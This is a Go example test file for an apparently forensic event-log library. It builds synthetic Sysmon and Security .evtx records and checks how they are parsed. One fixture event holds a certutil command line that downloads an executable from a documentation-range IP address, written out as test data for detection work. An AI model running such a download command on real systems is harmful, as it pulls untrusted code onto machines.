package evtxtest_test

import (
	"bytes"
	"fmt"
	"log"
	"time"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/evtx/evtxtest"
)

// The README has the first three lines.
func Example() {
	system := evtx.System{TimeCreated: time.Date(2026, 3, 2, 13, 42, 9, 0, time.UTC), Computer: "WEB01"}
	event := evtx.Sysmon1{System: system, Image: `C:\Windows\System32\certutil.exe`, CommandLine: "certutil -urlcache -f http://198.51.100.23/a a.exe"}
	log, err := evtxtest.Bytes(event) // the content of an .evtx file
	if err != nil {
		fmt.Println(err)
		return
	}
	r, err := evtx.NewReader(bytes.NewReader(log), int64(len(log)))
	if err != nil {
		fmt.Println(err)
		return
	}
	for rec, err := range r.Records() {
		if err != nil {
			fmt.Println(err)
			return
		}
		e, err := rec.Event()
		fmt.Println(e.Channel, e.EventID, e.Version, e.Text("Image"), e.Text("OriginalFileName"), err)
	}
	// Output:
	// Microsoft-Windows-Sysmon/Operational 1 5 C:\Windows\System32\certutil.exe - <nil>
}

func ExampleBytes() {
	system := evtx.System{TimeCreated: time.Date(2026, 3, 2, 13, 42, 9, 0, time.UTC), Computer: "WEB01.example.com"}
	data, err := evtxtest.Bytes(
		&evtx.Security4624{System: system, TargetUserName: "admin", LogonType: 10, IpAddress: "203.0.113.9"},
		evtx.Security4634{System: system, TargetUserName: "admin"},
	)
	if err != nil {
		log.Fatal(err)
	}
	r, err := evtx.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		log.Fatal(err)
	}
	for rec, err := range r.Records() {
		if err != nil {
			log.Fatal(err)
		}
		e, err := rec.Typed()
		if err != nil {
			log.Fatal(err)
		}
		fmt.Println(e.Sys().RecordID, e.Kind())
	}
	// Output:
	// 1 security-4624
	// 2 security-4634
}
